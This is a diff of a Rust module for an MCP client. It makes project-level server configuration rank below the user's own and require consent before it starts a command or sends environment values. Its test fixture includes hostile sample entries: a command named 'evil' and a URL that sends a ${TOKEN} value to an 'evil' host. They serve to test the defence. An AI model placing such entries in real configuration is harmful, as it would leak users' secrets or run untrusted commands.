@@ -7,7 +7,7 @@ use std::{
     path::{Path, PathBuf},
 };
 
-use serde_json::{Map, Value};
+use serde_json::Value;
 
 use crate::{endpoint::Endpoint, error::ClientError};
 
@@ -30,6 +30,8 @@ pub struct ConfiguredServer {
     pub name: String,
     /// The configuration file.
     pub file: PathBuf,
+    /// The owner of the file.
+    pub scope: ConfigScope,
     /// The entry as JSON.
     entry: Value,
     /// The placeholder syntax of the values.
@@ -38,23 +40,29 @@ pub struct ConfiguredServer {
     folder: PathBuf,
 }
 
+/// The owner of a configuration file.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+#[non_exhaustive]
+pub enum ConfigScope {
+    /// A file in the user's home, such as `~/.claude.json`.
+    User,
+    /// A file of a project, which anyone who writes to the project can change: `.mcp.json`, `.vscode/mcp.json`.
+    Project,
+}
+
 impl Endpoint {
     /// Looks up a server by its name in the configuration of other clients ([`ConfiguredServer`]).
     ///
     /// # Errors
     ///
-    /// [`ClientError::InvalidEndpoint`] if there is none with this name, or its entry cannot be used.
+    /// [`ClientError::InvalidEndpoint`] if there is none with this name, its entry cannot be used, or it
+    /// [requires consent](ConfiguredServer::requires_consent).
     pub fn configured(name: &str) -> Result<Endpoint, ClientError> {
-        let all = ConfiguredServer::all();
-        if let Some(server) = all.iter().find(|server| server.name == name) {
-            return server.endpoint();
+        let server = ConfiguredServer::find(name)?;
+        if server.requires_consent() {
+            return Err(server.unusable("requires the user's consent, because the file is part of a project"));
         }
-        let mut names: Vec<&str> = all.iter().map(|server| server.name.as_str()).collect();
-        names.dedup();
-        Err(ClientError::InvalidEndpoint(match names.as_slice() {
-            [] => format!("no server is named {name}: no client configuration was found"),
-            names => format!("no server is named {name}: the configured servers are {}", names.join(", ")),
-        }))
+        server.endpoint()
     }
 
     /// Parses one word: an `http://` or `https://` URL, or the name of a [configured](Endpoint::configured) server.
@@ -79,7 +87,8 @@ enum Dialect {
 }
 
 impl ConfiguredServer {
-    /// Returns the servers that are configured for the current folder, nearest configuration first. Missing and
+    /// Returns the servers that are configured for the current folder: those of the user before those of the project,
+    /// so that a project cannot replace a server of the user, and nearer files of a project first. Missing and
     /// malformed files are skipped.
     #[must_use]
     pub fn all() -> Vec<ConfiguredServer> {
@@ -87,23 +96,58 @@ impl ConfiguredServer {
         ConfiguredServer::visible_from(&here, env::home_dir().as_deref())
     }
 
+    /// Returns the first server with a name.
+    ///
+    /// # Errors
+    ///
+    /// [`ClientError::InvalidEndpoint`] if there is none.
+    pub fn find(name: &str) -> Result<ConfiguredServer, ClientError> {
+        let all = ConfiguredServer::all();
+        if let Some(server) = all.iter().find(|server| server.name == name) {
+            return Ok(server.clone());
+        }
+        let mut names: Vec<&str> = all.iter().map(|server| server.name.as_str()).collect();
+        names.dedup();
+        Err(ClientError::InvalidEndpoint(match names.as_slice() {
+            [] => format!("no server is named {name}: no client configuration was found"),
+            names => format!("no server is named {name}: the configured servers are {}", names.join(", ")),
+        }))
+    }
+
     fn visible_from(here: &Path, home: Option<&Path>) -> Vec<ConfiguredServer> {
+        use ConfigScope::{Project, User};
+        use Dialect::{Claude, VsCode};
+
         let mut all = Vec::new();
+        if let Some(home) = home {
+            let claude = home.join(".claude.json");
+            for project in here.ancestors() {
+                let name = project.display().to_string();
+                all.extend(read(&claude, (User, Claude), project, &["projects", &name, "mcpServers"]));
+            }
+            all.extend(read(&claude, (User, Claude), here, &["mcpServers"]));
+            for folder in [".config/Code/User", "Library/Application Support/Code/User", "AppData/Roaming/Code/User"] {
+                all.extend(read(&home.join(folder).join("mcp.json"), (User, VsCode), here, &["servers"]));
+            }
+        }
         for folder in project_folders(here) {
-            all.extend(read(&folder.join(".mcp.json"), Dialect::Claude, folder, &[&["mcpServers"]]));
-            all.extend(read(&folder.join(".vscode/mcp.json"), Dialect::VsCode, folder, &[&["servers"]]));
-        }
-        let Some(home) = home else { return all };
-        let projects: Vec<String> = here.ancestors().map(|folder| folder.display().to_string()).collect();
-        let claude = home.join(".claude.json");
-        for project in &projects {
-            all.extend(read(&claude, Dialect::Claude, Path::new(project), &[&["projects", project, "mcpServers"]]));
-        }
-        all.extend(read(&claude, Dialect::Claude, here, &[&["mcpServers"]]));
-        for folder in [".config/Code/User", "Library/Application Support/Code/User", "AppData/Roaming/Code/User"] {
-            all.extend(read(&home.join(folder).join("mcp.json"), Dialect::VsCode, here, &[&["servers"]]));
+            all.extend(read(&folder.join(".mcp.json"), (Project, Claude), folder, &["mcpServers"]));
+            all.extend(read(&folder.join(".vscode/mcp.json"), (Project, VsCode), folder, &["servers"]));
         }
         all
+    }
+
+    /// Returns whether the user has to agree before the server is used: a project's file names the server, and it
+    /// starts a command or sends values of the environment.
+    #[must_use]
+    pub fn requires_consent(&self) -> bool {
+        self.scope == ConfigScope::Project && (!self.entry["command"].is_null() || self.content().contains("${"))
+    }
+
+    /// Returns the entry as JSON on one line, without replacing placeholders: the content to which a user consents.
+    #[must_use]
+    pub fn content(&self) -> String {
+        self.entry.to_string()
     }
 
     /// Returns the endpoint, with placeholders replaced.
@@ -187,23 +231,21 @@ fn project_folders(here: &Path) -> Vec<&Path> {
     here.ancestors().take(root.map_or(1, |root| root + 1)).collect()
 }
 
-fn read(file: &Path, dialect: Dialect, folder: &Path, places: &[&[&str]]) -> Vec<ConfiguredServer> {
+fn read(file: &Path, kind: (ConfigScope, Dialect), folder: &Path, place: &[&str]) -> Vec<ConfiguredServer> {
     let small = fs::metadata(file).is_ok_and(|file| file.is_file() && file.len() <= MAX_BYTES);
     let Some(text) = small.then(|| fs::read_to_string(file).ok()).flatten() else { return Vec::new() };
     let Ok(whole) = serde_json::from_str::<Value>(&without_comments(&text)) else { return Vec::new() };
-    let mut found = Vec::new();
-    for place in places {
-        let servers = place.iter().fold(&whole, |value, key| &value[*key]);
-        let entries = servers.as_object().map(Map::iter).into_iter().flatten();
-        found.extend(entries.map(|(name, entry)| ConfiguredServer {
-            name: name.clone(),
-            file: file.to_owned(),
-            entry: entry.clone(),
-            dialect,
-            folder: folder.to_owned(),
-        }));
-    }
-    found
+    let (scope, dialect) = kind;
+    let servers = place.iter().fold(&whole, |value, key| &value[*key]);
+    let server = |(name, entry): (&String, &Value)| ConfiguredServer {
+        name: name.clone(),
+        file: file.to_owned(),
+        scope,
+        entry: entry.clone(),
+        dialect,
+        folder: folder.to_owned(),
+    };
+    servers.as_object().into_iter().flatten().map(server).collect()
 }
 
 /// Removes comments and trailing commas, which VS Code allows in its JSON.
@@ -275,13 +317,34 @@ mod tests {
             ("home/.claude.json", r#"{"mcpServers": {"three": {"type": "http", "url": "https://example.com"}}}"#),
         ]);
         let names: Vec<&str> = all.iter().map(|configured| configured.name.as_str()).collect();
-        assert_eq!(names, ["two", "one", "three"]);
-        assert_eq!(all[0].endpoint().expect("a valid entry").to_string(), "https://example.com/mcp");
-        let Ok(Endpoint::Command { line, folder: runs_in, .. }) = all[1].endpoint() else {
+        assert_eq!(names, ["three", "two", "one"]);
+        assert_eq!(all[1].endpoint().expect("a valid entry").to_string(), "https://example.com/mcp");
+        let Ok(Endpoint::Command { line, folder: runs_in, .. }) = all[2].endpoint() else {
             panic!("expected a command")
         };
         assert_eq!(line, ["npx", "b"]);
         assert_eq!(runs_in, Some(folder.path().join("work")));
+    }
+
+    // req: S-76
+    #[test]
+    fn project_neither_shadows_a_user_server_nor_goes_without_consent() {
+        let (_folder, all) = found(&[
+            ("work/.mcp.json", r#"{"mcpServers": {"a": {"command": "evil"}, "b": {"url": "https://evil/${TOKEN}"}}}"#),
+            ("work/.vscode/mcp.json", r#"{"servers": {"c": {"url": "https://example.com"}}}"#),
+            ("home/.claude.json", r#"{"mcpServers": {"a": {"command": "mine"}}}"#),
+        ]);
+        let facts: Vec<(&str, ConfigScope, bool)> =
+            all.iter().map(|server| (server.name.as_str(), server.scope, server.requires_consent())).collect();
+        assert_eq!(
+            facts,
+            [
+                ("a", ConfigScope::User, false),
+                ("a", ConfigScope::Project, true),
+                ("b", ConfigScope::Project, true),
+                ("c", ConfigScope::Project, false),
+            ]
+        );
     }
 
     #[test]
